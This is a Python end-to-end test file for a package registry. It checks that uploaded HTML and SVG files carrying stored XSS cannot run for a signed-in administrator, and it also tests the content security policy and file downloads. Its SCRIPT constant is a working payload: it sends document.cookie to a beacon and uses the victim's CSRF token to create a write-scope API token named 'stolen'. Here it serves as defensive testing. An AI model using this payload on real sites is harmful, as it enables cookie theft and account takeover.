"""Stored XSS (issue 15, point 1) in the real browser: an uploaded ``.html``
or ``.svg`` whose script reads ``document.cookie`` and creates a token with
the victim's CSRF cookie must not run when a signed-in administrator opens
its URL, by any download route.

The script reports to a beacon (a small HTTP server on 127.0.0.1) and tries
to create a token named ``stolen``. As a control, the same bytes served by
the beacon itself as HTML and SVG do run in the same browser (so a silent
test cannot pass by accident). Also: the web UI loads under its own content
security policy without a violation.

Chromium comes from Debian (``/usr/bin/chromium``); see tests/e2e/test_ui.py.
"""

from __future__ import annotations

import hashlib
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from tests.conftest import ADMIN_PASSWORD, LiveServer
from tests.e2e.test_ui import TIMEOUT_MS, browser  # noqa: F401  (the fixture)

pytestmark = pytest.mark.slow

NEW_PASSWORD = "another-admin-password-for-xss"
SCRIPT = """
var csrf = (document.cookie.match(/orchard_csrf=([^;]+)/) || [])[1] || "";
fetch("BEACON/hit?from=" + encodeURIComponent(location.pathname)
      + "&cookie=" + encodeURIComponent(document.cookie), {mode: "no-cors"});
fetch("/api/v1/tokens", {method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json", "X-CSRF-Token": csrf},
      body: JSON.stringify({name: "stolen", scope: "write"})});
document.title = "ran";
"""


def payloads(beacon: str) -> dict[str, tuple[bytes, str]]:
    script = SCRIPT.replace("BEACON", beacon)
    html = f"<!doctype html><html><body><p>hello</p><script>{script}</script></body></html>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{script}]]></script></svg>'
    return {
        "page.html": (html.encode(), "text/html"),
        "image.svg": (svg.encode(), "image/svg+xml"),
    }


class Beacon:
    """Records the paths it is asked for; serves the control pages."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.pages: dict[str, tuple[bytes, str]] = {}
        beacon = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                beacon.hits.append(self.path)
                page = beacon.pages.get(self.path.lstrip("/"))
                body, kind = page if page else (b"", "text/plain")
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def reported(self) -> list[str]:
        return [h for h in self.hits if h.startswith("/hit")]

    def wait_for_reports(self, count: int, seconds: float) -> list[str]:
        deadline = time.monotonic() + seconds
        while len(self.reported()) < count and time.monotonic() < deadline:
            time.sleep(0.05)
        return self.reported()


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    b = Beacon()
    b.thread.start()
    try:
        yield b
    finally:
        b.server.shutdown()
        b.server.server_close()


def sign_in_admin(context: object, base: str) -> None:
    """Sign in as the administrator in ``context`` (its cookies), changing
    the preset password first as the server requires."""
    request = context.request  # type: ignore[attr-defined]
    r = request.post(f"{base}/api/v1/auth/login",
                     data={"username": "admin", "password": ADMIN_PASSWORD})
    assert r.ok, r.text()
    r = request.post(f"{base}/api/v1/auth/password",
                     data={"current_password": ADMIN_PASSWORD, "new_password": NEW_PASSWORD},
                     headers={"X-CSRF-Token": r.json()["csrf_token"]})
    assert r.ok, r.text()
    r = request.post(f"{base}/api/v1/auth/login",
                     data={"username": "admin", "password": NEW_PASSWORD})
    assert r.ok and not r.json()["must_change_password"], r.text()
    names = {c["name"] for c in context.cookies()}  # type: ignore[attr-defined]
    assert {"orchard_session", "orchard_csrf"} <= names


def open_url(page: object, url: str) -> None:
    """Open ``url`` as a click on a link would; a download is fine."""
    from playwright.sync_api import Error

    try:
        page.goto(url, wait_until="load")  # type: ignore[attr-defined]
    except Error as exc:  # an attachment: the browser downloads it
        assert "Download is starting" in str(exc), exc


def test_uploaded_pages_do_not_run(
    live_server: LiveServer, browser: object, beacon: Beacon  # noqa: F811
) -> None:
    from playwright.sync_api import expect

    base = live_server.url
    files = payloads(beacon.url)
    beacon.pages = {f"control-{name}": value for name, value in files.items()}
    auth = live_server.auth
    for project, public in (("xss-public", True), ("xss-private", False)):
        r = httpx.post(f"{base}/api/v1/projects", headers=auth,
                       json={"name": project, "is_public": public, "upstream": False})
        assert r.status_code == 201, r.text
    urls = []
    for name, (body, kind) in files.items():
        for project in ("xss-public", "xss-private"):
            path = f"/api/v1/project/{project}/packages/site/versions/1.0/files/{name}"
            r = httpx.put(f"{base}{path}", content=body,
                          headers={**auth, "Content-Type": kind})
            assert r.status_code == 201, r.text
            urls.append(f"{base}{path}")
        urls.append(f"{base}/api/v1/artifacts/{hashlib.sha256(body).hexdigest()}/content")

    context = browser.new_context(accept_downloads=True)  # type: ignore[attr-defined]
    context.set_default_timeout(TIMEOUT_MS)
    expect.set_options(timeout=TIMEOUT_MS)
    try:
        sign_in_admin(context, base)
        page = context.new_page()
        violations: list[str] = []
        page.on("console", lambda m: violations.append(m.text)
                if "Content Security Policy" in m.text else None)
        # The UI itself works under its policy.
        page.goto(f"{base}/projects")
        expect(page.get_by_role("heading", name="Projects")).to_be_visible()
        expect(page.get_by_test_id("signed-in-as")).to_have_text("admin")
        assert violations == []

        for url in urls:
            open_url(page, url)
        page.wait_for_timeout(500)
        # The payloads' script never ran: no report, no token, no new title.
        assert beacon.reported() == []
        tokens = httpx.get(f"{base}/api/v1/tokens", headers=auth).json()
        assert "stolen" not in {t["name"] for t in tokens}

        # Control: the same bytes, served as HTML and SVG from the beacon's
        # origin, run in this browser.
        for i, name in enumerate(files, start=1):
            page.goto(f"{beacon.url}/control-{name}")
            assert len(beacon.wait_for_reports(i, 10)) == i, name
    finally:
        context.close()


SWAGGER_STUB = """
window.SwaggerUIBundle = function (config) { window.swaggerConfigUrl = config.url; };
window.SwaggerUIBundle.presets = {apis: {}};
window.SwaggerUIBundle.SwaggerUIStandalonePreset = {};
"""


def test_api_docs_page_runs_under_its_policy(
    live_server: LiveServer, browser: object  # noqa: F811
) -> None:
    """/api/v1/docs loads Swagger UI's script from the address FastAPI names
    and runs one inline script; its policy allows exactly these. The browser
    never leaves loopback: the script's request is answered here by a stub."""
    from playwright.sync_api import Route

    base = live_server.url
    stubbed: list[str] = []

    def answer(route: Route) -> None:
        url = route.request.url
        if url.startswith(base):
            route.continue_()
        elif url.endswith("/swagger-ui-bundle.js"):
            stubbed.append(url)
            route.fulfill(status=200, content_type="text/javascript", body=SWAGGER_STUB)
        else:
            route.fulfill(status=404, body="")

    context = browser.new_context()  # type: ignore[attr-defined]
    context.set_default_timeout(TIMEOUT_MS)
    try:
        context.route("**/*", answer)
        page = context.new_page()
        violations: list[str] = []
        page.on("console", lambda m: violations.append(m.text)
                if "Content Security Policy" in m.text else None)
        page.goto(f"{base}/api/v1/docs", wait_until="load")
        # The inline script ran (and called the stub) by the time "load" fired.
        assert page.evaluate("() => window.swaggerConfigUrl ?? null") == "/api/v1/openapi.json"
        assert len(stubbed) == 1
        assert [v for v in violations if "script" in v] == []
    finally:
        context.close()


def test_file_links_on_index_pages_still_download(
    live_server: LiveServer, browser: object  # noqa: F811
) -> None:
    """The strict policy sandboxes every page Orchard renders; a PyPI index
    page opened in the browser still downloads the file a link points to."""
    from tests.pypi_support import make_wheel, upload_form

    base = live_server.url
    r = httpx.post(f"{base}/api/v1/projects", headers=live_server.auth,
                   json={"name": "pages", "is_public": True, "upstream": False})
    assert r.status_code == 201, r.text
    wheel_name, wheel, _ = make_wheel("demo", "1.0")
    r = httpx.post(f"{base}/pypi/pages/", headers=live_server.auth,
                   **upload_form(wheel_name, wheel, "demo", "1.0"))
    assert r.status_code == 200, r.text
    context = browser.new_context(accept_downloads=True)  # type: ignore[attr-defined]
    context.set_default_timeout(TIMEOUT_MS)
    try:
        page = context.new_page()
        page.goto(f"{base}/pypi/pages/simple/demo/")
        with page.expect_download() as download:
            page.get_by_role("link", name=wheel_name).click()
        assert download.value.suggested_filename == wheel_name
    finally:
        context.close()
